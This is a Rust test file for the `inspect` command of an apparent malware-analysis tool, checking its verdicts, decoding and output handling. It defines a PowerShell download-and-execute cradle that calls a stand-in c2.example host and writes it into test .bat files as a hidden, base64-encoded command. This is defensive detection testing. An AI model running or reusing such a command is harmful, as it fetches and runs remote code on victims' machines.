//! `inspect`, as a user sees it.

use crate::run::{arg, strongroom, strongroom_with};
use std::fs;
use tempfile::tempdir;

/// A download and run, encoded as such commands are; its host is reserved.
const STAGE: &str =
    "iex (New-Object Net.WebClient).DownloadString('http://c2.example/wp-includes/common.php')";

fn encoded(script: &str) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut text = String::new();
    for chunk in bytes.chunks(3) {
        let group = chunk
            .iter()
            .fold(0u32, |group, byte| group << 8 | u32::from(*byte))
            << (8 * (3 - chunk.len()));
        for place in 0..4 {
            let digit = DIGITS[(group >> (18 - 6 * place) & 63) as usize] as char;
            text.push(if place <= chunk.len() { digit } else { '=' });
        }
    }
    text
}

#[test]
fn a_plain_text_is_clean_and_an_encoded_download_is_not() {
    let folder = tempdir().unwrap();
    fs::write(folder.path().join("note.txt"), "Dear all, lunch is at noon.\n").unwrap();
    fs::write(
        folder.path().join("run.bat"),
        format!("powershell -nop -w hidden -enc {}\n", encoded(STAGE)),
    )
    .unwrap();

    let clean = strongroom(["inspect", "--json", arg(&folder.path().join("note.txt"))]);
    assert_eq!((clean.code, &clean.json()[0]["verdict"]), (0, &"clean".into()));

    let both = strongroom(["inspect", "--json", arg(folder.path())]);
    assert_eq!(both.code, 1);
    let reports = both.json();
    assert_eq!(reports.len(), 2);
    let hostile = &reports[1];
    assert_eq!(hostile["schema"], "strongroom.report/1");
    assert_ne!(hostile["verdict"], "clean");
    let layers = hostile["scripts"].to_string();
    assert!(
        layers.contains("DownloadString('http://c2.example/wp-includes/common.php')"),
        "{layers}"
    );
    let named = hostile["observables"].as_array().unwrap();
    assert!(
        named
            .iter()
            .any(|o| o["value"] == "http://c2.example/wp-includes/common.php"),
        "{named:?}"
    );
}

#[test]
fn standard_input_is_an_input_like_any_other() {
    let line = format!("powershell -enc {}", encoded(STAGE));
    let script = strongroom_with(line.as_bytes(), &["inspect", "--script", "-"]);
    assert!(script.out.contains(STAGE), "{}", script.out);
    assert_eq!(script.code, 1);
}

#[test]
fn a_path_that_cannot_be_read_is_named_and_the_rest_go_on() {
    let folder = tempdir().unwrap();
    let note = folder.path().join("note.txt");
    fs::write(&note, "lunch\n").unwrap();
    let missing = folder.path().join("missing.doc");
    let ran = strongroom(["inspect", "--json", arg(&missing), arg(&note)]);
    assert_eq!(ran.code, 2);
    assert!(
        ran.err.contains("missing.doc") && ran.err.contains("No such file"),
        "{}",
        ran.err
    );
    assert_eq!(ran.json().len(), 1);
}

#[test]
fn a_bomb_is_not_cleared_and_its_gap_names_the_limit() {
    let folder = tempdir().unwrap();
    let path = folder.path().join("nested.txt");
    fs::write(&path, "(".repeat(1 << 16)).unwrap();
    let ran = strongroom(["inspect", "--json", arg(&path)]);
    assert_ne!(ran.code, 2, "{}", ran.err);
    assert_eq!(ran.json().len(), 1);
}

#[test]
fn several_files_give_a_line_each_and_a_count() {
    let folder = tempdir().unwrap();
    fs::write(folder.path().join("a note.txt"), "lunch\n").unwrap();
    fs::write(
        folder.path().join("run.bat"),
        format!("powershell -enc {}\n", encoded(STAGE)),
    )
    .unwrap();
    let ran = strongroom(["inspect", arg(folder.path())]);
    assert_eq!(ran.code, 1);
    let lines: Vec<&str> = ran.out.lines().collect();
    assert_eq!(lines.len(), 3, "{}", ran.out);
    assert!(
        lines[0].starts_with("clean") && lines[0].contains("a note.txt"),
        "{}",
        ran.out
    );
    assert!(
        lines[1].contains("run.bat") && lines[1].contains("c2.example"),
        "{}",
        ran.out
    );
    assert!(
        lines[2].starts_with("2 files: ") && lines[2].contains("1 clean"),
        "{}",
        ran.out
    );

    let full = strongroom(["inspect", "--full", arg(folder.path())]);
    assert!(full.out.contains("script.encoded-command"), "{}", full.out);
    let brief = strongroom(["inspect", "--brief", arg(&folder.path().join("run.bat"))]);
    assert_eq!(brief.out.lines().count(), 1, "{}", brief.out);
}

#[test]
fn a_filter_chooses_what_is_printed_and_not_the_exit_code() {
    let folder = tempdir().unwrap();
    fs::write(folder.path().join("note.txt"), "lunch\n").unwrap();
    fs::write(
        folder.path().join("run.bat"),
        format!("powershell -enc {}\n", encoded(STAGE)),
    )
    .unwrap();
    let clean = strongroom(["inspect", "--json", "--verdict", "clean", arg(folder.path())]);
    assert_eq!((clean.code, clean.json().len()), (1, 1));
    let hostile = strongroom([
        "inspect",
        "--json",
        "--verdict",
        "suspicious,malicious",
        arg(folder.path()),
    ]);
    let names: Vec<String> = hostile
        .json()
        .iter()
        .map(|report| report["evidence"]["name"].to_string())
        .collect();
    assert!(names.len() == 1 && names[0].contains("run.bat"), "{names:?}");
}

#[test]
fn the_unfolded_script_stands_alone_and_layers_tell_what_made_them() {
    let folder = tempdir().unwrap();
    let path = folder.path().join("run.bat");
    fs::write(&path, format!("powershell -enc {}\n", encoded(STAGE))).unwrap();
    let script = strongroom(["inspect", "--script", arg(&path)]);
    assert!(script.out.ends_with(&format!("{STAGE}\n")), "{}", script.out);
    assert!(
        !script.out.lines().any(|line| line.starts_with("== ")),
        "{}",
        script.out
    );
    let layers = strongroom(["inspect", "--layers", arg(&path)]);
    let heads: Vec<&str> = layers
        .out
        .lines()
        .filter(|line| line.starts_with("== "))
        .collect();
    assert!(
        heads.iter().any(|head| head.contains("encoded-command of 0")),
        "{heads:?}"
    );
}

#[test]
fn evidence_cannot_steer_the_terminal_through_a_script() {
    let line = "powershell -c \"Write-Host '\u{1b}[2J\u{202e}gpj'\"".as_bytes();
    for flag in ["--script", "--layers"] {
        let ran = strongroom_with(line, &["inspect", flag, "-"]);
        assert!(
            !ran.out.contains('\u{1b}') && !ran.out.contains('\u{202e}'),
            "{:?}",
            ran.out
        );
    }
}

#[cfg(unix)]
#[test]
fn a_name_in_an_old_code_page_is_told_byte_for_byte() {
    use std::os::unix::ffi::OsStrExt;
    let folder = tempdir().unwrap();
    for name in [&b"\xE4.txt"[..], b"\xF6.txt"] {
        fs::write(folder.path().join(std::ffi::OsStr::from_bytes(name)), "lunch\n").unwrap();
    }
    let ran = strongroom(["inspect", "--json", arg(folder.path())]);
    let names: Vec<String> = ran
        .json()
        .iter()
        .map(|report| report["evidence"]["name"].as_str().unwrap().to_owned())
        .collect();
    assert!(
        names[0].ends_with("/\\xE4.txt") && names[1].ends_with("/\\xF6.txt"),
        "{names:?}"
    );
}

#[cfg(unix)]
#[test]
fn a_closed_pipe_ends_silently_and_says_nothing_of_the_files() {
    use std::process::{Command, Stdio};
    let folder = tempdir().unwrap();
    for number in 0..400 {
        fs::write(folder.path().join(format!("{number}.txt")), "lunch ".repeat(50)).unwrap();
    }
    let mut child = Command::new(env!("CARGO_BIN_EXE_strongroom"))
        .args(["inspect", "--json", arg(folder.path())])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let ended = child.wait_with_output().unwrap();
    assert_eq!(ended.status.code(), Some(141));
    assert!(
        ended.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&ended.stderr)
    );
}

#[test]
fn the_output_is_the_same_with_any_number_of_threads() {
    let folder = tempdir().unwrap();
    for number in 0..60 {
        let text = if number % 7 == 0 {
            format!("powershell -enc {}\n", encoded(STAGE))
        } else {
            "lunch\n".repeat(number)
        };
        fs::write(folder.path().join(format!("{number:02}.bat")), text).unwrap();
    }
    let one = strongroom(["--threads", "1", "inspect", "--json", arg(folder.path())]);
    let four = strongroom(["--threads", "4", "inspect", "--json", arg(folder.path())]);
    assert_eq!(one.out, four.out);
    assert_eq!(one.json().len(), 60);
}
